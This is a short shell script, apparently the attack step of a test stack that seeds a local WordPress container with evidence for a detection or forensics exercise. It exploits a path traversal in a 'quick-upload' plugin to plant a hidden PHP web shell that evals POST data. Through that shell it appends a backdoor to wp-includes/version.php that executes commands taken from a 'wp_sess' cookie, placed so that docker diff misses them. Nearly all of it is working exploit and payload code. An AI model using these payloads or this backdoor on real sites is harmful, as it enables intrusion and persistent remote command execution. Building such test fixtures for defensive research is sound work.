#!/bin/sh
# The compromise, over HTTP on loopback through the upload plugin's path traversal: a web
# shell hidden in a plugin folder and a backdoor appended to a core file, both inside the
# volume, so `docker diff` shows nothing of them. Ground truth: README.md, expected.json.
set -eu
victim=$1
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../stack-lib.sh"
addr=$(published "$victim" 80)
[ -n "$addr" ] || { echo "attack: $victim publishes no port 80 on 127.0.0.1" >&2; exit 1; }
command -v curl >/dev/null 2>&1 || { echo "attack: needs curl (Debian: apt-get install curl)" >&2; exit 1; }
upload() {
  curl -fsS --max-time 20 --data-binary @- "http://$addr/wp-content/plugins/quick-upload/upload.php?name=$1" >/dev/null
}

upload ../plugins/hello-dolly/.cache.php <<'PHP'
<?php @eval(base64_decode($_POST['x'])); ?>
PHP
# Then, through that shell, a line appended to a core file: it runs a cookie's command.
code='file_put_contents("/var/www/html/wp-includes/version.php", "if (isset(\$_COOKIE[\"wp_sess\"])) { @system(\$_COOKIE[\"wp_sess\"]); }\n", FILE_APPEND);'
curl -fsS --max-time 20 --data-urlencode "x=$(printf '%s' "$code" | base64 | tr -d '\n')" \
  "http://$addr/wp-content/plugins/hello-dolly/.cache.php" >/dev/null
